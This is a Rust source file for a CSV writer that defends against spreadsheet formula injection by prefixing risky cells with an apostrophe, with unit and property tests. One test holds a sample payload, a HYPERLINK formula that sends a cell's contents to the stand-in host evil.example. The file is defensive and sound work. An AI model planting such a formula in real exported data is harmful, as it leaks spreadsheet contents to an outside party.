//! The one CSV writer of the product. Every cell that a spreadsheet would read as a formula
//! (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is written with a leading `'`,
//! so that a signer named `=HYPERLINK(…)` stays a name in the officer's spreadsheet.

use std::borrow::Cow;

use crate::DomainError;

/// The UTF-8 byte order mark: spreadsheets then read Arabic and Tifinagh right.
pub const BOM: [u8; 3] = [0xEF, 0xBB, 0xBF];

/// A CSV document written into memory, a line at a time.
pub struct CsvWriter {
    inner: csv::Writer<Vec<u8>>,
}

impl CsvWriter {
    /// A document without a byte order mark (a later chunk of a streamed export).
    pub fn new() -> Self {
        Self {
            inner: csv::Writer::from_writer(Vec::new()),
        }
    }

    /// A document that starts with the byte order mark.
    pub fn with_bom() -> Self {
        Self {
            inner: csv::Writer::from_writer(BOM.to_vec()),
        }
    }

    /// Writes one line; each cell is guarded against formula injection.
    pub fn line<I, S>(&mut self, cells: I) -> Result<(), DomainError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.inner
            .write_record(cells.into_iter().map(|c| guard(c.as_ref()).into_owned()))
            .map_err(|e| DomainError::Internal(format!("csv: {e}")))
    }

    /// The bytes written.
    pub fn finish(self) -> Result<Vec<u8>, DomainError> {
        self.inner
            .into_inner()
            .map_err(|e| DomainError::Internal(format!("csv: {e}")))
    }
}

impl Default for CsvWriter {
    fn default() -> Self {
        Self::new()
    }
}

/// `cell`, with a leading `'` when a spreadsheet would read it as a formula.
pub fn guard(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn written(cells: &[&str]) -> String {
        let mut w = CsvWriter::new();
        w.line(cells).unwrap_or_else(|e| panic!("{e}"));
        String::from_utf8(w.finish().unwrap_or_else(|e| panic!("{e}")))
            .unwrap_or_else(|e| panic!("{e}"))
    }

    #[test]
    fn formulas_are_written_as_text() {
        assert_eq!(
            written(&[r#"=HYPERLINK("https://evil.example/?"&B2,"x")"#, "Amina"]),
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"x\"\")\",Amina\n"
        );
        for cell in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert!(
                written(&[cell]).trim_start_matches('"').starts_with('\''),
                "{cell:?}"
            );
        }
    }

    #[test]
    fn ordinary_cells_are_kept() {
        assert_eq!(written(&["أمينة", "12", "a=b"]), "أمينة,12,a=b\n");
    }

    #[test]
    fn the_bom_starts_a_document() {
        let w = CsvWriter::with_bom();
        assert_eq!(w.finish().unwrap_or_default(), BOM.to_vec());
    }

    proptest! {
        /// Whatever a cell holds, the cell read back never starts a formula.
        #[test]
        fn no_cell_reads_back_as_a_formula(cell in "\\PC{0,20}") {
            let text = written(&[cell.as_str()]);
            let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
            for record in reader.records() {
                let record = record.unwrap_or_else(|e| panic!("{e}"));
                for read in record.iter() {
                    prop_assert!(!read.starts_with(['=', '+', '-', '@', '\t', '\r']));
                }
            }
        }
    }
}
